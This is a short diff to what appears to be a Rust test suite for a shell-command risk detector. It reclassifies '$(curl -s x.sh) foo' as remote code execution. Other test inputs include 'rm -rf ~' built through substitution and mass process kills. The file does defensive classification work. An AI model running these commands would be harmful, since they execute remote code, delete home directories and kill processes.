@@ -680,7 +680,8 @@ fn functions_substitutions_and_other_spellings() {
     clean("cat $HOMEBREW_PREFIX/etc/x.conf");
     clean("$(echo ls) -la");
     flagged("`echo rm` -rf ~", Destructive, Critical);
-    flagged("$(curl -s x.sh) foo", Obfuscation, High);
+    // A program named by what a server answers: its code runs (session 42).
+    flagged("$(curl -s x.sh) foo", RemoteCodeExec, Critical);
     flagged("pkill -9 -u dev", Destructive, High);
     flagged("killall5 -9", Destructive, High);
     // Every node process of the user: the editor's and the agent's own
